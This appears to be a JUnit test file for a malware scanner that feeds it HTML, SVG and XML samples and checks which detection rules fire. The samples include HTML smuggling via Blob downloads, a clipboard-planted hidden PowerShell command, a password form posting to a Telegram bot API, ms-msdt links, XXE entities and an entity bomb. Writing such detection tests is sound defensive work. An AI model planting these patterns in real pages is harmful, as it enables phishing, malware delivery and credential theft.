package org.lazaret.scan.document.html;

import static org.assertj.core.api.Assertions.assertThat;
import static org.lazaret.scan.document.Samples.latin;
import static org.lazaret.scan.document.Samples.rules;
import static org.lazaret.scan.document.Samples.scan;
import static org.lazaret.scan.document.Samples.zip;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.lazaret.scan.Score;
import org.lazaret.scan.Verdict;

class MarkupAnalyserTest {
    private static final String SAVE = "var u=URL.createObjectURL(b);var a=document.createElement('a');a.href=u;a.download='a.zip';a.click();";

    @ParameterizedTest
    @CsvSource(delimiter = '~', value = {
        "<script>var b=new Blob([atob('QUJD')]);SAVE</script>                                                   ~ html.smuggling",
        "<script>var b=new Blob([new Uint8Array([1,2,3].map(x=>x^5))]);SAVE</script>                            ~ html.smuggling",
        "<script>eval(unescape('%6e%65%77%20%42%6c%6f%62%28%5b%61%74%6f%62%28%22%41%22%29%5d%29%3b%61%2e%64%6f%77%6e%6c%6f%61%64'))</script>"
            + " ~ html.smuggling",
        "<script>window.navigator['msSaveOrOpenBlob'](new Blob([atob(x)]),'a.iso')</script>                     ~ html.smuggling",
        "<script>navigator.clipboard.writeText('power'+'shell -w hidden')</script>                              ~ html.clipboard",
        "<meta http-equiv=refresh content='0; url=https://example.invalid/'>                                    ~ html.redirect",
        "<script>location.replace('https://example.invalid/')</script>                                          ~ html.redirect",
        "<form action='https://example.invalid/p'><input type=password></form>                                  ~ html.form.password",
        "<input type=password><script>fetch('https://api.telegram.org/bot1/sendMessage')</script>               ~ html.exfiltration",
        "<a href='search-ms:query=a&crumb=location:\\\\192.0.2.1\\s'>x</a>                                      ~ html.link.program",
        "<a href='&#x6d;s-msdt&colon;/id x'>x</a>                                                               ~ html.link.program",
        "<hta:application id=a>                                                                                 ~ html.hta",
        "<script language=vbscript>CreateObject(\"WScript.Shell\")</script>                                     ~ html.script.system",
        "<img src='file://192.0.2.1/a/b.png'>                                                                   ~ html.link.share",
        "<meta http-equiv=refresh content='0;url=data:application/pdf;base64,JVBERi0xLjcK'>                     ~ html.smuggling",
        "<script>location='data:application/zip;base64,UEsDBAoAAAAAAAAAAAAAAAAAAAAAAAAA'</script>               ~ html.smuggling",
        "<script>eval(atob('YWxlcnQoMSk='))</script>                                                            ~ html.script.hidden",
        "<script>window.open('https://example.invalid/', '_self')</script>                                      ~ html.redirect",
        "<body onload='document.forms[0].submit()'><form action='https://example.invalid/'></form>              ~ html.redirect",
        "<base href='https://example.invalid/'><script src='a.js'></script>                                     ~ html.script.only",
        "<script>s=document.createElement('script');s.src='https://example.invalid/a.js'</script>               ~ html.script.only",
        "<script type=module>import 'https://example.invalid/a.js'</script>                                     ~ html.script.only",
        "<script>t.select();document.execCommand('copy')</script>Press Windows + R                              ~ html.clipboard",
        "<applet code=a.class archive='https://example.invalid/a.jar'></applet>                                 ~ html.activex",
        "<script src='https://example.invalid/a.js'></script>                                                   ~ html.script.only",
        "<iframe srcdoc='&lt;script&gt;location.href=\"http://example.invalid\"&lt;/script&gt;'></iframe>        ~ html.script"
    })
    void scanShouldReportWhatAPageDoes(String page, String rule) {
        Verdict verdict = scan("a.html", "<html><body>" + page.replace("SAVE", SAVE) + "</body></html>");

        assertThat(rules(verdict)).contains(rule);
    }

    @Test
    void scanShouldHandOnTheFileThatAScriptCarries() {
        String packed = Base64.getEncoder().encodeToString(zip(Map.of("invoice.js", latin("x"))));

        Verdict verdict = scan("a.html", "<html><script>var d='" + packed + "';var b=new Blob([atob(d)]);" + SAVE + "</script></html>");

        assertThat(rules(verdict)).contains("html.smuggling");
        assertThat(verdict.score().atLeast(Score.of(8))).isTrue();
    }

    @Test
    void scanShouldHandOnTheFileInALink() {
        String packed = Base64.getEncoder().encodeToString(latin("%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /Launch /F (a.exe) >> >>\nendobj\n"));

        Verdict verdict = scan("a.html", "<html><a download='b.pdf' href='data:application/pdf;base64," + packed + "'>open</a></html>");

        assertThat(verdict.findings()).anySatisfy(finding -> {
            assertThat(finding.rule()).isEqualTo("pdf.launch");
            assertThat(finding.path()).containsExactly("a.html", "b.pdf");
        });
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', value = {
        "<script>alert(1)</script>                                                               ~ svg.script",
        "<a xlink:href='java&#115;cript:alert(1)'><text>x</text></a>                             ~ svg.handler",
        "<rect onload='x()'/>                                                                    ~ svg.handler",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><p>x</p></body></foreignObject> ~ svg.foreign",
        "<foreignObject><embed src='http://example.invalid/'/></foreignObject>                    ~ svg.foreign",
        "<use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhKCknLz4=#x'/>           ~ svg.handler",
        "<animate attributeName='href' values='javascript:alert(1)'/>                            ~ svg.handler"
    })
    void scanShouldReportActivePictures(String inner, String rule) {
        Verdict verdict = scan("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>" + inner + "</svg>");

        assertThat(rules(verdict)).contains(rule);
    }

    @Test
    void scanShouldReportEntitiesOfAllKinds() {
        Verdict external = scan("a.svg", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"http://example.invalid/\">]><svg>&x;</svg>");
        Verdict bomb = scan("a.xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a \"aaa\"><!ENTITY b \"&a;&a;\"><!ENTITY c"
            + " \"&b;&b;\">]><a>&c;</a>");

        assertThat(rules(external)).contains("xml.entity.external");
        assertThat(rules(bomb)).contains("xml.entity.bomb");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', value = {
        "a.html ~ <html><head><style>p { color: red }</style></head><body><h1>Report</h1><p>All good. See <a"
            + " href='https://example.org/'>here</a>.</p></body></html>",
        "a.html ~ <html><body><p>Report</p><script>document.getElementById('t').onclick = function () { sort(1); };</script></body></html>",
        "a.svg  ~ <svg xmlns='http://www.w3.org/2000/svg'><foreignObject><div>label</div></foreignObject><rect width='1'/></svg>",
        "a.svg  ~ <!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns='&ns_svg;'><rect/></svg>"
    })
    void scanShouldFindNothingMuchInOrdinaryPages(String name, String page) {
        Verdict verdict = scan(name, page);

        assertThat(verdict).isInstanceOf(Verdict.Scanned.class);
        assertThat(verdict.findings()).filteredOn(finding -> !finding.rule().startsWith("name.")).allSatisfy(
            finding -> assertThat(finding.weight()).isLessThan(Score.of(4)));
    }

    @Test
    void scanShouldReadPagesOfWideCharacters() {
        Verdict verdict = scan("a.html", ("\ufeff<html><meta http-equiv=refresh"
            + " content='0;url=http://example.invalid/'></html>").getBytes(StandardCharsets.UTF_16LE));

        assertThat(rules(verdict)).contains("html.redirect");
    }

    @Test
    void scanShouldBearEndlessParametersOfADataUri() {
        String uri = "data:x" + ";a".repeat(500_000) + ",";

        Verdict verdict = scan("a.html", "<html><a href='" + uri + "'>x</a><script>var d='" + uri + "'</script></html>");

        assertThat(verdict).isInstanceOf(Verdict.Scanned.class);
    }
}
